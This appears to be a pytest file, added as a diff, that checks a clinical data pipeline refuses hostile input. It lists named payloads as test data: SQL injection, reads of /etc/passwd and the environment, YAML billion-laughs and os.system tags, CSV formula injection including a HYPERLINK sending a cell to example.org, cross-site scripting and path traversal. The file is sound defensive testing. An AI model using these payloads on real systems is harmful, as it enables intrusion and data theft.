@@ -1,0 +1,483 @@
+"""Hostile input: what people who may write mappings, rules and contracts, or deliver cells, must not get done.
+
+Every attempt is named. The SQL is tried twice: at the gate, and past it on a locked-down warehouse, where the worst
+of it fails all the same.
+"""
+
+import csv
+from datetime import UTC, datetime
+from html.parser import HTMLParser
+from pathlib import Path
+
+import duckdb
+import polars as pl
+import pytest
+import yaml
+
+from pipelines import checks, contracts, flat_file, paths, reporting, sources, sql_files, warehouse
+from pipelines import study as studies
+from pipelines.errors import ContractError, SqlFileError, StudyError, WorkspaceError
+from pipelines.workspace import Workspace
+from tests import made_up_study
+
+SECRET = "canary-4711"
+HEADER = (
+    "-- Hostile\n-- Grain: row\n-- Key: a\n-- Units: none\n-- Scope: patient\n-- Source: none\n-- Rows: raw_north.t\n"
+)
+
+SQL = {
+    "reads a file by its name": "select * from '/etc/passwd'",
+    "reads a file by a quoted name": 'select * from "/etc/passwd.csv"',
+    "reads a file under the name of a step": (
+        'select * from (with "secret.csv" as (select 1 as a) select * from "secret.csv") as t, "secret.csv" as u'
+    ),
+    "reads a file as CSV": "select * from read_csv('/etc/passwd')",
+    "reads a file as text": "select * from read_text('/etc/passwd')",
+    "reads a file as bytes": "select * from read_blob('/etc/passwd')",
+    "reads a file in capitals": "select * from READ_TEXT('/etc/passwd')",
+    "reads a file as Parquet": "select * from read_parquet('x.parquet')",
+    "reads a file as JSON": "select * from read_json('x.json')",
+    "reads a file in a subquery": "select (select content from read_text('/etc/passwd')) as a",
+    "reads a file in a step": "with a as (from read_text('/etc/passwd')) select * from a",
+    "reads a file in a lateral join": "select * from raw_north.t, lateral (select * from read_text(t.a))",
+    "lists files": "select * from glob('/**')",
+    "reads the web": "select * from 'https://example.org/x.csv'",
+    "reads another database": "select * from other.main.t",
+    "asks for the environment": "select getenv('HOME') as a",
+    "asks for the environment through a schema": "select main.getenv('HOME') as a",
+    "asks for the environment through a dot": "select 'HOME'.getenv() as a",
+    "asks for the environment in a limit": "select 1 as a limit (select getenv('HOME')::int)",
+    "asks for the environment in a window": "select sum(1) over (order by getenv('HOME')) as a",
+    "asks for the environment in a lambda": "select list_transform([1], lambda x: getenv('HOME')) as a",
+    "asks for a setting": "select current_setting('temp_directory') as a",
+    "lists the settings": "select * from duckdb_settings()",
+    "lists the tables": "select * from duckdb_tables()",
+    "lists the tables of the standard": "select * from information_schema.tables",
+    "lists the tables of Postgres": "select * from pg_catalog.pg_class",
+    "lists the secrets": "select * from duckdb_secrets()",
+    "shows the tables": "select * from (show tables)",
+    "summarizes a table": "summarize raw_north.t",
+    "asks a pragma": "select * from pragma_database_list()",
+    "names the user": "select current_user as a",
+    "reads the clock": "select now() as a",
+    "reads the clock without saying so": "select current_timestamp as a",
+    "draws lots": "select random() as a",
+    "draws rows": "select * from raw_north.t tablesample 1 rows",
+    "runs text as a query": "select * from query('select 1')",
+    "runs text as a table": "select * from query_table('raw_north.t')",
+    "runs a serialized query": "select * from json_execute_serialized_sql(json_serialize_sql('select 1'))",
+    "parses SQL": "select json_serialize_sql('select 1') as a",
+    "reads a variable": "select getvariable('a') as a",
+    "draws from a sequence": "select nextval('s') as a",
+    "writes the log": "select write_log('x') as a",
+    "sleeps": "select pg_sleep(1000) as a",
+    "quotes a row in an error": "select error(a) as a from raw_north.t",
+    "goes round for ever": "with recursive a as (select 1 as n union all select n from a) select * from a",
+    "deletes in a step": "with a as (delete from raw_north.t returning *) select * from a",
+    "inserts in a step": "with a as (insert into raw_north.t values (1) returning *) select * from a",
+    "updates in a step": "with a as (update raw_north.t set a = 1 returning *) select * from a",
+    "deletes": "delete from raw_north.t",
+    "drops": "drop table raw_north.t",
+    "drops after a select": "select 1 as a; drop table raw_north.t",
+    "drops after a comment": "select 1 as a -- ;\n; drop table raw_north.t",
+    "copies to a file": "copy (select 1) to 'x.csv'",
+    "copies to a file after a select": "select 1 as a; copy raw_north.t to 'x.csv'",
+    "exports the database": "export database 'x'",
+    "attaches a database": "attach 'x.duckdb'",
+    "installs an extension": "install httpfs",
+    "loads an extension": "load httpfs",
+    "changes a setting": "set enable_external_access = true",
+    "unlocks the configuration": "pragma enable_external_access",
+    "makes a macro": "create macro lower(a) as 'x'",
+    "makes a secret": "create secret (type s3)",
+    "prepares a statement": "prepare a as select 1",
+    "calls a procedure": "call pragma_version()",
+    "explains by running": "explain analyze select 1",
+    "pivots": "pivot raw_north.t on a",
+    "travels in time": "select * from raw_north.t at (version => 1)",
+    "reads the Python that runs it": "select * from used",
+    "reads the Python that runs it under the name of a step": (
+        "select * from (with values as (select 1 as a) select * from values) as t, frame"
+    ),
+    "reads a schema of another project": "select * from main.t",
+    "reads temporary tables": "select * from temp.judged_row",
+    "nests without end": "select " + "(" * 5000 + "1" + ")" * 5000 + " as a",
+    "adds without end": "select " + "1+" * 60_000 + "1 as a",
+    "is endless": "select '" + "x" * 300_000 + "' as a",
+    "has a NUL byte": "select 1 as a\0; drop table raw_north.t",
+}
+
+
+@pytest.mark.parametrize("text", SQL.values(), ids=SQL)
+def test_no_mapping_and_no_rule_gets_hostile_sql_past_the_gate(text, monkeypatch, tmp_path):
+    for folder in ("2_clean/north", "5_label/rules"):
+        file = tmp_path / "sql" / folder / "patient.sql"
+        file.parent.mkdir(parents=True)
+        file.write_text(HEADER + text)
+        with pytest.raises(SqlFileError) as refused:
+            sql_files.read(file)
+        assert len(str(refused.value)) < 400
+
+
+@pytest.mark.parametrize("text", SQL.values(), ids=SQL)
+def test_no_query_of_a_contract_gets_hostile_sql_past_the_gate(text, contract_file):
+    query = {"type": "unexpected_rows_expectation", "why": "Why.", "unexpected_rows_query": text}
+    with pytest.raises(ContractError):
+        contract_file(expectations=[query])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "select a, lower(b) as b, count(*) over (partition by a order by b) as n from raw_north.t where a like 'x%'",
+        "with step as (select a from raw_north.t group by all having count(*) > 1) select * from step join clean.patient "
+        "on a = patient_id",
+        "select unnest(range(3)) as a",
+        "select b.c.d as d, list_filter(l, lambda x: x > 1) as l, l[1] as f from raw_north.t as b",
+        "select case when a then 1 end as a, try_cast(b as date) as b from raw_north.t union all select 1, null",
+        "select $window_days as a",
+        "select distinct on (a) a, b from raw_north.t order by a, b desc nulls last limit 5",
+    ],
+)
+def test_plain_selects_pass(text, tmp_path):
+    file = tmp_path / "sql" / "2_clean" / "north" / "patient.sql"
+    file.parent.mkdir(parents=True)
+    file.write_text(HEADER + text)
+    assert sql_files.read(file).text.endswith(text)
+
+
+# --- Past the gate: a warehouse that is locked down ---
+
+PAST_THE_GATE = {
+    "reads a file that is no extract": "select * from read_text('{secret}')",
+    "reads a file by its name": "select * from '{secret}'",
+    "lists a folder": "select * from glob('{folder}/*')",
+    "writes a file": "copy (select 1) to '{folder}/written.csv'",
+    "exports the database": "export database '{folder}/written'",
+    "attaches a database": "attach '{folder}/written.duckdb'",
+    "opens files again": "set enable_external_access = true",
+    "allows a folder": "set allowed_directories = ['/']",
+    "moves the spill folder": "set temp_directory = '{folder}'",
+    "unlocks the configuration": "set lock_configuration = false",
+    "takes more memory": "set memory_limit = '900GB'",
+    "installs an extension": "install httpfs",
+    "loads an extension": "load '{folder}/x.duckdb_extension'",
+    "reads the Python that runs it": "select * from frame",
+}
+
+
+@pytest.mark.parametrize("text", PAST_THE_GATE.values(), ids=PAST_THE_GATE)
+def test_a_locked_down_warehouse_reaches_no_file_no_setting_and_no_variable(text, tmp_path):
+    frame = pl.DataFrame({"secret": [SECRET]})
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.csv").write_text(f"a\n{SECRET}\n")
+    (tmp_path / "work").mkdir()
+    with warehouse.opened(tmp_path / "work" / "warehouse.duckdb") as connection, pytest.raises(duckdb.Error):
+        connection.execute(text.format(secret=outside / "secret.csv", folder=outside)).fetchall()
+    assert sorted(file.name for file in outside.iterdir()) == ["secret.csv"]
+    assert len(frame) == 1
+
+
+def test_a_check_changes_nothing_even_past_the_gate(contract_file):
+    """A contract made in Python has passed no gate; its query still runs in a read-only transaction."""
+    connection = duckdb.connect()
+    contract = contract_file()
+    warehouse.create(connection, contract)
+    connection.execute(f"insert into {contract.table} (patient_id) values ('x')")
+    query = "with a as (delete from raw_north.t returning *) select * from a"
+    rule = {"type": "unexpected_rows_expectation", "why": "Why.", "unexpected_rows_query": f"{query} -- {{batch}}"}
+    hostile = contract.model_copy(update={"expectations": [contracts.Expectation.model_validate(rule)]})
+    assert (
+        next(found.status for found in checks.check(connection, hostile) if found.expectation == rule["type"])
+        == "error"
+    )
+    assert warehouse.count(connection, contract.table) == 1
+
+
+# --- Contracts ---
+
+
+@pytest.fixture
+def contract_file(tmp_path, monkeypatch):
+    """Reads a contract of raw_north.t as it would stand in a file."""
+
+    def read(column=None, **changes):
+        content = {
+            "table": "raw_north.t",
+            "description": "A table.",
+            "key": [],
+            "files": "t.csv",
+            "columns": [{"name": "patient_id", "type": "VARCHAR", "description": "Person."} | (column or {})],
+        }
+        file = tmp_path / "data_contracts" / "0_raw" / "north" / "t.yaml"
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(yaml.safe_dump(content | changes))
+        return contracts.read(file)
+
+    return read
+
+
+CONTRACTS = {
+    "drops a table by a column's type": {"column": {"type": "VARCHAR); drop table raw.delivery; --"}},
+    "adds a column by a type": {"column": {"type": "VARCHAR, b VARCHAR"}},
+    "reads the environment by a type": {"column": {"type": "VARCHAR default getenv('HOME')"}},
+    "reads the environment by a generated column": {"column": {"type": "VARCHAR as (getenv('HOME'))"}},
+    "makes a table of a query by a type": {"column": {"type": "VARCHAR) as (select 1"}},
+    "closes the DDL by a column's name": {"column": {"name": "a) as select 1; --"}},
+    "closes the DDL by the table's name": {"table": "raw_north.t; drop table raw.delivery"},
+    "names the table of another contract": {"table": "clean.patient"},
+    "names no number as a limit": {"column": {"minimum": float("nan")}},
+    "names the end of the world as a limit": {"column": {"maximum": float("inf")}},
+    "runs a function of Python": {"built_by": "os.system"},
+    "runs a method of a class": {"built_by": "pipelines.study.__class__"},
+    "runs a function of a package below": {"built_by": "pipelines.paths.os.system; x"},
+    "dates events by a query": {"event_date": "(select max(scored_at) from clean.pain_score)"},
+    "adds up what a file says": {
+        "adds_up": [{"total": "a b", "parts": ["patient_id"], "where": "exists (from read_text('/etc/passwd'))"}]
+    },
+    "adds up past its condition": {
+        "adds_up": [{"total": "a b", "parts": ["patient_id"], "where": "1) union (select 1"}]
+    },
+    "checks rows past their condition": {
+        "expectations": [
+            {
+                "type": "expect_column_values_to_not_be_null",
+                "column": "patient_id",
+                "why": "Why.",
+                "row_condition": "getenv('HOME') = 'x'",
+            }
+        ]
+    },
+    "compares with a query of its own": {
+        "expectations": [
+            {
+                "type": "expect_query_results_to_match_comparison",
+                "why": "Why.",
+                "base_query": "select 1",
+                "comparison_query": "select * from read_text('/etc/passwd')",
+            }
+        ]
+    },
+    "has a key that nobody knows": {"python": "os.system('true')"},
+}
+
+
+@pytest.mark.parametrize("changes", CONTRACTS.values(), ids=CONTRACTS)
+def test_no_contract_says_more_than_it_says(changes, contract_file):
+    with pytest.raises(ContractError):
+        contract_file(**changes)
+
+
+def test_a_quote_in_a_listed_value_stays_a_value(contract_file):
+    value = "x') or 1 = 1; drop table raw.delivery; --"
+    column = contract_file({"values": [value]}).columns[0]
+    [(condition, _, _)] = sources._rules(column)
+    connection = duckdb.connect()
+    connection.execute("create table mapped as select unnest([?, 'y']) as patient_id", [value])
+    assert connection.sql(f"select patient_id from mapped where {condition}").fetchall() == [("y",)]
+
+
+def test_every_type_of_the_projects_own_contracts_passes():
+    assert contracts.all_contracts()
+
+
+# --- YAML ---
+
+LAUGH = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(9)
+)
+YAML = {
+    "laughs a billion times": LAUGH,
+    "nests without end": "a: " + "[" * 100_000,
+    "nests deeper than a study": "a: " + "[" * 30 + "]" * 30,
+    "is endless": "a: " + "x" * 1_100_000,
+    "makes an object": "a: !!python/object/apply:os.system ['true']",
+    "makes a module": "a: !!python/module:os",
+    "has a tag of its own": "a: !secret x",
+    "has a number of many digits": "a: " + "9" * 5000,
+    "has a day that is none": "a: 2021-13-45",
+    "has a list as a key": "? [a]\n: b",
+    "has two documents": "a: 1\n---\nb: 2",
+    "has a key twice": "name: x\nname: y",
+    "has a NUL byte": "a: \0",
+    "is no UTF-8": b"a: \xff",
+    "refers to itself": "a: &a [*a]",
+    "is a list": "- a",
+    "is nothing": "",
+}
+
+
+@pytest.mark.parametrize("text", YAML.values(), ids=YAML)
+def test_no_yaml_takes_the_machine(text, tmp_path):
+    file = tmp_path / "data_contracts" / "0_raw" / "north" / "t.yaml"
+    file.parent.mkdir(parents=True)
+    file.write_bytes(text if isinstance(text, bytes) else text.encode())
+    with pytest.raises(StudyError):
+        studies.load(file)
+    with pytest.raises(ContractError):
+        contracts.read(file)
+
+
+# --- Cells ---
+
+CELLS = {
+    "a formula": "=cmd|' /C calc'!A0",
+    "a formula by plus": "+cmd|' /C calc'!A0",
+    "a formula by minus": "-cmd|' /C calc'!A0",
+    "a formula by at": "@SUM(1+1)",
+    "a formula behind a tab": "\t=1+1",
+    "a formula behind a carriage return": "\r=1+1",
+    "a formula behind a line feed": "\n=1+1",
+    "a formula behind blanks": "  =1+1",
+    "a formula in wide letters": "\uff1d1+1",
+    "a link": '=HYPERLINK("http://example.org/"&A1)',
+    "a call in what looks like a number": "-1+cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("cell", CELLS.values(), ids=CELLS)
+def test_no_cell_is_a_formula_in_a_written_csv(cell, tmp_path):
+    flat_file.write(pl.DataFrame({"a": [cell], cell: [1]}), tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
+        header, row = csv.reader(file)
+    assert row == ["'" + cell, "1"]
+    assert header == ["a", "'" + cell]
+
+
+@pytest.mark.parametrize("cell", ["-5", "+5", "-0.5e3", "5", "oxycodone 5 MG", "", None, "'=1", "a=b", "--"])
+def test_numbers_and_texts_that_are_no_formulas_are_written_as_they_are(cell, tmp_path):
+    flat_file.write(pl.DataFrame({"a": pl.Series([cell, "x"], dtype=pl.String)}), tmp_path / "out.csv")
+    kept = pl.read_csv(tmp_path / "out.csv", infer_schema=False)["a"][0]
+    assert (kept or "") == (("'--" if cell == "--" else cell) or "")
+
+
+def test_numbers_and_parquet_are_left_alone(tmp_path):
+    rows = pl.DataFrame({"a": [-5.0], "b": ["=1+1"]})
+    flat_file.write(rows, tmp_path / "out.parquet")
+    assert pl.read_parquet(tmp_path / "out.parquet").equals(rows)
+    flat_file.write(rows, tmp_path / "out.csv")
+    assert (tmp_path / "out.csv").read_text() == "a,b\n-5.0,'=1+1\n"
+
+
+SCRIPTS = {
+    "a script": "<script>alert(1)</script>",
+    "an image": "<img src=x onerror=alert(1)>",
+    "an attribute": '" onmouseover="alert(1)',
+    "a template": "{{ 7 * 7 }}{% for x in y %}",
+    "an end of the page": "</td></table><iframe src='http://example.org'>",
+}
+
+
+class _Page(HTMLParser):
+    """What a browser makes of a page: its elements with their attributes, and its text."""
+
+    def __init__(self, page: str):
+        super().__init__()
+        self.elements: list[tuple[str, list]] = []
+        self.text = ""
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, attrs))
+
+    def handle_data(self, data):
+        self.text += data
+
+    @property
+    def is_hostile(self) -> bool:
+        tags = {tag for tag, _ in self.elements}
+        attributes = {name for _, attributes in self.elements for name, _ in attributes}
+        return bool(tags & {"script", "img", "iframe"} or {name for name in attributes if name.startswith("on")})
+
+
+def test_no_drug_text_title_or_reason_is_markup_in_the_report(monkeypatch, tmp_path):
+    """Through the whole page: the texts of a study, of drugs that nobody can read, of sources and of checks."""
+    text = " ".join(SCRIPTS.values())
+    study = studies.Study(name="s", title=text, sources={"simulated": {"folder": tmp_path}}, output=tmp_path / "out")
+    connection = made_up_study.study(120, 1)
+    rows = pl.DataFrame({"drug_text": [*SCRIPTS.values()]})
+    rows = rows.with_columns(reason="drug_text", record_count=500, patient_count=300)
+    made_up_study.insert(connection, "report.unread_text", rows)
+    now = datetime(2024, 1, 1, tzinfo=UTC)
+    facts = reporting.Facts("r", text, text, text, text, now, now, (text,), True)
+    check = checks.CheckResult(
+        table=text, check=text, expectation="x", arguments={}, column=None, severity="critical", why=text,
+        status="failed", rows=500, failing_rows=100,
+    )  # fmt: skip
+    page = _Page(reporting.write(connection, study, facts, [check], tmp_path / "report").read_text())
+    assert not page.is_hostile
+    assert all(text in page.text for text in SCRIPTS.values())
+
+
+def test_no_text_of_a_contract_or_study_is_markup_on_the_quality_pages(contract_file, tmp_path):
+    text = " ".join(SCRIPTS.values())
+    connection = duckdb.connect()
+    rules = [
+        {"type": "unexpected_rows_expectation", "why": text, "unexpected_rows_query": "select 1 from {batch}"},
+        {"type": "expect_column_values_to_be_in_set", "column": "patient_id", "value_set": [text], "why": text},
+    ]
+    contract = contract_file(expectations=rules, description=text)
+    warehouse.create(connection, contract)
+    connection.execute(f"insert into {contract.table} (patient_id) values ('x')")
+    connection.execute("create schema raw; create table raw.quarantine (source varchar, table_name varchar)")
+    found = checks.check(connection, contract)
+    checks.data_docs(found, tmp_path / "quality", text, {"Study": text}, failures=[text], not_built=[text])
+    for page in (tmp_path / "quality").glob("*.html"):
+        assert not _Page(page.read_text()).is_hostile, page.name
+
+
+# --- Paths ---
+
+
+def study_file(folder: Path, **changes) -> Path:
+    (folder / "extract").mkdir(parents=True, exist_ok=True)
+    content = {"name": "s", "title": "S", "sources": {"simulated": {"folder": "extract"}}, "output": "out"}
+    file = folder / "study.yaml"
+    file.write_text(yaml.safe_dump(content | changes))
+    return file
+
+
+def test_paths_that_lead_where_they_say_are_fine(tmp_path):
+    (tmp_path / "beside").mkdir()
+    file = study_file(tmp_path / "studies", sources={"simulated": {"folder": "../beside"}}, output="../out")
+    assert studies.load(file).sources["simulated"].folder == tmp_path / "beside"
+
+
+PATHS = {
+    "an output beyond a folder it only passes": {"output": "extract/../../elsewhere"},
+    "an extract beyond a folder it only passes": {"sources": {"simulated": {"folder": "extract/../../../etc"}}},
+    "an output that is a link": {"output": "link"},
+    "an output behind a link": {"output": "link/out"},
+    "an extract that is a link": {"sources": {"simulated": {"folder": "link"}}},
+    "a truth that is a link": {"truth": "link"},
+    "a table of codes that is a link": {"ndc_table": "link/codes.csv"},
+    "an output inside an extract": {"output": "extract/out"},
+    "an output that is the extract": {"output": "extract"},
+    "an extract inside the output's own work": {"sources": {"simulated": {"folder": "out/work"}}},
+    "an output among the contracts": {"output": str(paths.DATA_CONTRACTS / "out")},
+    "an output among the SQL": {"output": str(paths.SQL)},
+    "a path with a NUL byte": {"output": "o\0ut"},
+}
+
+
+@pytest.mark.parametrize("changes", PATHS.values(), ids=PATHS)
+def test_no_path_of_a_study_leads_elsewhere_than_it_says(changes, tmp_path):
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "codes.csv").write_text("ndc,drug_text\n")
+    file = study_file(tmp_path / "studies", **changes)
+    (tmp_path / "studies" / "link").symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(StudyError) as refused:
+        studies.load(file)
+    assert len(str(refused.value).splitlines()) == 1
+
+
+@pytest.mark.parametrize("name", ["work", "runs", "models", ".dagster", "lock"])
+def test_nothing_is_written_through_a_link_in_the_output(name, tmp_path):
+    study = studies.load(study_file(tmp_path))
+    (tmp_path / "elsewhere").mkdir()
+    study.output.mkdir()
+    (study.output / name).symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(WorkspaceError), Workspace(study).locked():
+        pass
+    assert not list((tmp_path / "elsewhere").iterdir())
